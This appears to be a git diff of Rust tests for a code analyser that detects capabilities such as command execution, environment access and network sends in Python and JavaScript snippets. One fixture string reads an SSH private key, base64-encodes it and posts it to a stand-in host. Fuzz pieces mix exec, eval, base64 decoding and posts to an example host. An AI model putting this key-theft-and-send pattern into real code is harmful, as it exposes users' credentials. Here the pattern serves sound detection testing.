@@ -1,5 +1,9 @@
 //! Any input ends, and says where it was too much.
 
+use std::fmt::Write as _;
+
+use proptest::prelude::*;
+
 use crate::budget::Budget;
 use crate::finding::Capability;
 use crate::language::Language;
@@ -35,15 +39,11 @@ fn long_chains_are_no_nesting() {
 fn functions_that_call_each_other_end() {
     let code = "import os\ndef a(x):\n    return b(x) + b(x)\ndef b(x):\n    return a(x) + a(x) + c(x)\ndef c(x):\n    return a(b(c(x)))\na(os.environ)\n";
     assert!(skill("run.py", code).complete);
-    let many: String = (0..200)
-        .map(|n| {
-            format!(
-                "def f{n}(x):\n    return f{}(x) + f{}(x)\n",
-                (n + 1) % 200,
-                (n + 7) % 200
-            )
-        })
-        .collect();
+    let mut many = String::new();
+    for n in 0..200 {
+        let (next, other) = ((n + 1) % 200, (n + 7) % 200);
+        let _ = writeln!(many, "def f{n}(x):\n    return f{next}(x) + f{other}(x)");
+    }
     assert!(skill("run.py", &format!("import os\n{many}f0(os.getenv('A'))")).complete);
 }
 
@@ -96,7 +96,7 @@ fn the_same_code_has_the_same_findings() {
 
 #[test]
 fn capabilities_are_told_with_what_they_act_on() {
-    let code = "import requests, os, base64, subprocess\ndef read():\n    return open('/home/u/.ssh/id_rsa').read()\ndef enc(x):\n    return base64.b64encode(x)\ndef send(x):\n    requests.post('https://API.example:8443/a', data=x)\nsubprocess.run(['git', 'log'])\nos.getenv('A_B')\nopen('out.txt', 'w')\n";
+    let code = "import requests, os, base64, subprocess\ndef read():\n    return open('/home/u/.ssh/id_rsa').read()\ndef enc(x):\n    return base64.b64encode(x)\ndef send(x):\n    requests.post('https://API.example:8443/a', data=x)\nsubprocess.run(['git', 'log'])\nsubprocess.run(['npm', 'install', 'left-pad'])\nprint(dict(os.environ))\nos.getenv('A_B')\nopen('out.txt', 'w')\n";
     let text = Text::new(0, code, Language::Python, Role::File, 1);
     let output = analyse(&Snippet::of(code), &text, &mut Budget::new(None)).unwrap();
     let has = |capability, detail: &str| {
@@ -112,4 +112,84 @@ fn capabilities_are_told_with_what_they_act_on() {
     assert!(has(Capability::Exec, "git"));
     assert!(has(Capability::Environment, "A_B"));
     assert!(has(Capability::Write, "out.txt"));
+    assert!(has(Capability::WholeEnvironment, ""));
+    assert!(has(Capability::Install, "left-pad"));
+}
+
+/// Pieces of code that mean something to the analysis, in any order.
+fn pieces() -> impl Strategy<Value = String> {
+    let piece = prop::sample::select(vec![
+        "import os\n",
+        "from base64 import b64decode as d\n",
+        "exec(",
+        "eval(",
+        "d(",
+        "getattr(",
+        "os.environ",
+        "process.env",
+        "['A']",
+        ".get(",
+        ")",
+        "(",
+        "[",
+        "]",
+        "{",
+        "}",
+        "'a%s{}'",
+        "\"é\\x41\"",
+        "`${",
+        "f'{",
+        "+",
+        "%",
+        " if ",
+        "for x in ",
+        "=>",
+        "function f(a) {",
+        "def f(a):\n ",
+        "return ",
+        "x = ",
+        "x += ",
+        "requests.post('https://h.example', ",
+        "data=",
+        ".join(",
+        ".format(",
+        "[::-1]",
+        ".split('')",
+        "\n",
+        " ",
+        ";",
+        ",",
+        "lambda a: ",
+        "await ",
+        "new ",
+        "class A:\n ",
+        "self.x",
+        "1",
+        "0x",
+        "-1",
+        "<<",
+        ">>> ",
+        "...",
+        "#",
+        "//",
+        "/*",
+        "\"\"\"",
+        "chr(",
+        "while True:\n ",
+        "\u{202e}",
+        "\0",
+    ]);
+    prop::collection::vec(piece, 0..60).prop_map(|pieces| pieces.concat())
+}
+
+proptest! {
+    #[test]
+    fn no_order_of_pieces_does_harm(code in pieces()) {
+        for language in [Language::Python, Language::JavaScript, Language::TypeScript] {
+            let text = Text::new(0, code.as_str(), language, Role::File, 1);
+            let mut budget = Budget::new(None);
+            super::super::inner_texts(&text, &mut budget);
+            prop_assert!(analyse(&Snippet::of(&code), &text, &mut budget).is_some());
+        }
+    }
 }
